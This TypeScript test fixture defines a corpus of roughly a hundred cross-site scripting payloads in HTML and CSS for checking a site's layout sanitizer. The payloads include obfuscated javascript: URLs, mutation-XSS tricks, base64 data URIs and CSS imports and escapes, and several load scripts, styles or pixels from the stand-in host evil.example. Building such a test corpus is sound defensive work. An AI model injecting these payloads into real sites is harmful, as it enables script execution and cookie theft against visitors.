/**
 * Cross-site scripting attempts a layout's HTML or CSS may carry (after the OWASP and PortSwigger
 * cheat sheets): each one, if it ran, would set `window.__xss`, write the cookie `xss=1` and open an
 * alert. The sanitizer's tests save and publish every one; the browser test opens the public pages
 * they end up on and checks that none of these happened.
 */

/** What each attempt runs: no space and no quote, so that it fits every context below. */
export const XSS_RUN = "window.__xss=1;document.cookie=String.fromCharCode(120,115,115,61,49);alert(1)";

export interface XssPayload {
  id: string;
  html?: string;
  css?: string;
}

const R = XSS_RUN;
const ENTITIES_DECIMAL = [..."javascript:"].map((c) => `&#${c.charCodeAt(0)};`).join("");
const ENTITIES_HEX = [..."javascript:"].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("");
const ENTITIES_PADDED = [..."javascript:"]
  .map((c) => `&#${String(c.charCodeAt(0)).padStart(7, "0")}`)
  .join("");
const HTML_DOC = Buffer.from("<script>parent.__xss=1;alert(1)</script>").toString("base64");
const SVG_DOC = Buffer.from(
  "<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='parent.__xss=1;alert(1)'/></svg>",
).toString("base64");

const HTML: [string, string][] = [
  ["script", `<script>${R}</script>`],
  ["script-src", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>"],
  ["img-onerror", `<img src="x" onerror="${R}">`],
  ["img-onerror-unquoted", `<IMG SRC=x ONERROR=${R}>`],
  ["img-backticks", `<img src=\`x\` onerror=\`${R}\`>`],
  ["img-quotes", `<img """><script>${R}</script>">`],
  ["img-alt-markup", `<img src="/media/1/x.png" alt="<img src=x onerror=${R}>">`],
  ["svg-onload", `<svg onload="${R}"></svg>`],
  ["svg-script", `<svg><script>${R}</script></svg>`],
  ["svg-animate", `<svg><animate onbegin="${R}" attributeName="x" dur="1s"/></svg>`],
  ["svg-set", `<svg><a><set attributeName="href" to="javascript:${R}"/><text y="20">clic</text></a></svg>`],
  ["svg-xlink", `<svg><a xlink:href="javascript:${R}"><text x="20" y="20">clic</text></a></svg>`],
  ["svg-use-data", `<svg><use href="data:image/svg+xml;base64,${SVG_DOC}#x"/></svg>`],
  ["math-xlink", `<math><maction actiontype="statusline" xlink:href="javascript:${R}">clic</maction></math>`],
  [
    "math-mxss",
    `<math><mtext><table><mglyph><style><img src=x onerror="${R}"></style></mglyph></table></mtext></math>`,
  ],
  ["svg-style-mxss", `<svg></p><style><a id="</style><img src=1 onerror=${R}>">`],
  ["noscript-mxss", `<noscript><p title="</noscript><img src=x onerror=${R}>"></noscript>`],
  ["template", `<template><img src=x onerror="${R}"></template>`],
  ["xmp", `<xmp><img src=x onerror=${R}></xmp>`],
  ["title", `<title><img src=x onerror=${R}></title>`],
  ["textarea", `<textarea></textarea><img src=x onerror=${R}></textarea>`],
  [
    "style-element",
    `<style>*{background:url("javascript:${R}")}</style><style><img src=x onerror=${R}></style>`,
  ],
  ["body-onload", `<body onload="${R}">`],
  ["frameset", `<frameset onload=${R}>`],
  ["input-autofocus", `<input onfocus="${R}" autofocus>`],
  ["div-focusin", `<div id="cible" tabindex="1" onfocusin="${R}">focus</div>`],
  ["details-toggle", `<details open ontoggle="${R}"><summary>x</summary></details>`],
  ["marquee", `<marquee onstart="${R}">x</marquee>`],
  ["video-source", `<video><source onerror="${R}"></video>`],
  ["video-poster", `<video poster="javascript:${R}" src="/media/1/x.mp4"></video>`],
  ["a-mouseover", `<a href="https://example.fr" onmouseover=${R}>survol</a>`],
  ["a-javascript", `<a href="javascript:${R}">lien</a>`],
  ["a-mixed-case", `<a href="JaVaScRiPt:${R}">lien</a>`],
  ["a-decimal", `<a href="${ENTITIES_DECIMAL}${R}">lien</a>`],
  ["a-hex", `<a href="${ENTITIES_HEX}${R}">lien</a>`],
  ["a-padded", `<a href="${ENTITIES_PADDED}${R}">lien</a>`],
  ["a-tab", `<a href="java&#x09;script:${R}">lien</a>`],
  ["a-newline", `<a href="java&#x0A;script:${R}">lien</a>`],
  ["a-named-tab", `<a href="jav&Tab;ascript:${R}">lien</a>`],
  ["a-colon-entity", `<a href="javascript&colon;${R}">lien</a>`],
  ["a-leading-control", `<a href=" &#14; javascript:${R}">lien</a>`],
  ["a-raw-control", `<a href="\u0001javascript:${R}">lien</a>`],
  ["a-partial-entity", `<a href="javas&#99;ript:${R}">lien</a>`],
  ["a-vbscript", `<a href="vbscript:${R}">lien</a>`],
  ["a-data-base64", `<a href="data:text/html;base64,${HTML_DOC}">lien</a>`],
  ["a-data-html", `<a href="data:text/html,<script>${R}</script>">lien</a>`],
  ["img-srcset", `<img srcset="javascript:${R} 1x, /media/1/x.png 2x" alt="">`],
  ["img-src-javascript", `<IMG SRC="jav&#x09;ascript:${R}">`],
  ["img-src-eval", "<img src=x:alert(1) onerror=eval(src)>"],
  ["nested-script", `<<script>${R}//<</script>`],
  ["split-script", `<scr<script>ipt>${R}</scr</script>ipt>`],
  ["iframe-javascript", `<iframe src="javascript:${R}"></iframe>`],
  ["iframe-srcdoc", `<iframe srcdoc="<script>${R}</script>"></iframe>`],
  ["iframe-data", `<iframe src="data:text/html;base64,${HTML_DOC}"></iframe>`],
  ["iframe-other-host", `<iframe src="https://evil.example/"></iframe>`],
  ["iframe-lookalike-host", `<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>`],
  ["iframe-userinfo", `<iframe src="https://www.youtube-nocookie.com@evil.example/"></iframe>`],
  ["iframe-http", `<iframe src="http://player.vimeo.com/video/1"></iframe>`],
  ["iframe-relative", `<iframe src="/api/logged"></iframe>`],
  ["iframe-onload", `<iframe src="https://www.openstreetmap.org/export/embed.html" onload="${R}"></iframe>`],
  ["object", `<object data="javascript:${R}"></object>`],
  ["embed", `<embed src="javascript:${R}">`],
  ["applet", `<applet code="x" onload="${R}"></applet>`],
  ["form-formaction", `<form><button formaction="javascript:${R}">Envoyer</button></form>`],
  ["form-action", `<form action="javascript:${R}"><input type="submit"></form>`],
  ["isindex", `<isindex action="javascript:${R}" type=submit>`],
  ["meta-refresh", `<meta http-equiv="refresh" content="0;url=javascript:${R}">`],
  ["base-href", `<base href="javascript:${R}//">`],
  ["link-import", `<link rel="import" href="javascript:${R}">`],
  ["style-attr-javascript", `<div style="background:url(javascript:${R})">x</div>`],
  ["style-attr-quoted", `<div style="background:url(&quot;javascript:${R}&quot;)">x</div>`],
  ["style-attr-expression", `<div style="width:expression(${R})">x</div>`],
  ["style-attr-escaped", `<div style="background:u\\72 l(javascript:${R})">x</div>`],
  ["style-attr-behavior", `<div style="behavior:url(https://evil.example/x.htc)">x</div>`],
  ["style-attr-binding", `<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>`],
  ["style-attr-breakout", `<p style="color:red;}</style><script>${R}</script>">x</p>`],
  [
    "data-props-script",
    `<div data-component="contact-form" data-props='{"x":"</script><script>${R}</script>"}'></div>`,
  ],
  ["data-props-not-json", `<div data-component="map" data-props="javascript:${R}"></div>`],
  ["data-component-unknown", `<div data-component="<img src=x onerror=${R}>" data-props="{}">x</div>`],
];

const CSS: [string, string][] = [
  ["css-import", '@import url("https://evil.example/x.css");'],
  ["css-import-javascript", `@import 'javascript:${R}';`],
  ["css-import-escaped", '@\\69 mport "https://evil.example/x.css";'],
  ["css-url-javascript", `.xss-a{background:url("javascript:${R}")}`],
  ["css-url-data", ".xss-a{background:url(data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)}"],
  ["css-url-other-host", ".xss-a{background:url(https://evil.example/pixel.png)}"],
  ["css-url-protocol-relative", ".xss-a{background:url(//evil.example/pixel.png)}"],
  ["css-url-escaped", ".xss-a{background:u\\72 l(https://evil.example/x.png)}"],
  ["css-image-set", '.xss-a{background:image-set("https://evil.example/x.png" 1x)}'],
  ["css-image-set-var", '.xss-a{--u:"https://evil.example/x.png";background:image-set(var(--u) 1x)}'],
  ["css-expression", `.xss-a{width:expression(${R})}`],
  ["css-expression-comment", `.xss-a{width:exp/**/ression(${R})}`],
  ["css-behavior", ".xss-a{behavior:url(https://evil.example/x.htc)}"],
  ["css-binding", '.xss-a{-moz-binding:url("https://evil.example/x.xml#xss")}'],
  ["css-font-face", "@font-face{font-family:xss;src:url(https://evil.example/f.woff2)}"],
  ["css-breakout", `</style><script>${R}</script>`],
  ["css-breakout-string", `.xss-a{content:"</style><script>${R}</script>"}`],
  ["css-breakout-comment", `/* </style><img src=x onerror=${R}> */.xss-a{color:red}`],
];

export const XSS_CORPUS: XssPayload[] = [
  ...HTML.map(([id, html]) => ({ id, html })),
  ...CSS.map(([id, css]) => ({ id, css })),
];
